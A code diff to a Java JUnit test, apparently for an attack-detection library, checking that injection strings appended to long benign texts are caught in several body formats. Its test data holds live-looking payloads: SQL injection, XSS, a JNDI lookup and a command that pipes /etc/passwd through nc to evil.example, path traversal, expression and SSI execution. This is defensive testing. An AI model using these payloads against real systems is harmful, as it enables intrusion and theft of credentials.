@@ -2,7 +2,6 @@ package io.github.raspspring.growth;
 
 import java.util.ArrayList;
 import java.util.List;
-import java.util.Map;
 import java.util.function.Function;
 
 import org.junit.jupiter.api.Test;
@@ -14,19 +13,22 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 /**
  * Long honest texts are judged to their end within the budget, whatever reader brings
- * them, and an attack at their end is found. Steps are counted, nothing is timed.
+ * them, and an attack at their end is found: each text before two attacks, all attacks in
+ * each kind of body. Steps are counted, nothing is timed.
  */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class LongTextTests {
 
 	/** More than one piece of a long value. */
-	private static final int LENGTH = 100 * 1024;
+	private static final int LENGTH = 70 * 1024;
 
-	private static final Map<String, String> ATTACKS = Map.of("sql",
-			" x' UNION SELECT name, password FROM users WHERE 'a'='a", "markup", " <img src=x onerror=alert(1)>",
-			"lookup", " ${jndi:ldap://evil.example/a}", "path", " ../../../../../../etc/passwd", "command",
-			" ; cat /etc/passwd | nc evil.example 99", "expression", " ${T(java.lang.Runtime).getRuntime().exec('id')}",
-			"include", " <!--#exec cmd=\"cat /etc/passwd\" -->");
+	private static final List<String> ATTACKS = List.of(" x' UNION SELECT name, password FROM users WHERE 'a'='a",
+			" <img src=x onerror=alert(1)>", " ${jndi:ldap://evil.example/a}", " ../../../../../../etc/passwd",
+			" ; cat /etc/passwd | nc evil.example 99", " ${T(java.lang.Runtime).getRuntime().exec('id')}",
+			" <!--#exec cmd=\"cat /etc/passwd\" -->");
+
+	private static final List<HonestText> BEFORE = List.of(HonestText.PROSE, HonestText.LOG, HonestText.TABLE,
+			HonestText.MESSAGE, HonestText.WORLD, HonestText.ENCODED);
 
 	private final Function<String, Object[]> judged = ReaderGrowthTests.counted(LongTexts.class);
 
@@ -49,18 +51,17 @@ class LongTextTests {
 	@ValueSource(strings = { "text", "json", "xml", "form", "csv", "yaml", "graphql" })
 	void judgeWhenAttackStandsBehindALongTextThenIsFound(String kind) {
 		List<String> missed = new ArrayList<>();
-		for (HonestText text : List.of(HonestText.PROSE, HonestText.LOG, HonestText.TABLE, HonestText.MESSAGE,
-				HonestText.WORLD, HonestText.ENCODED)) {
-			String honest = text.text(LENGTH);
+		for (int i = 0; i < BEFORE.size(); i++) {
+			String honest = BEFORE.get(i).text(LENGTH);
 			if (judge(kind, honest)[1] > 0) {
-				missed.add(text + " is refused without an attack");
+				missed.add(BEFORE.get(i) + " is refused without an attack");
 			}
-			ATTACKS.forEach((name, attack) -> {
+			for (String attack : List.of(ATTACKS.get(i), ATTACKS.get((i + 3) % ATTACKS.size()))) {
 				long[] found = judge(kind, honest + attack);
 				if (found[0] > 0 || found[1] == 0) {
-					missed.add(text + " " + name);
+					missed.add(BEFORE.get(i) + attack);
 				}
-			});
+			}
 		}
 		assertThat(missed).isEmpty();
 	}
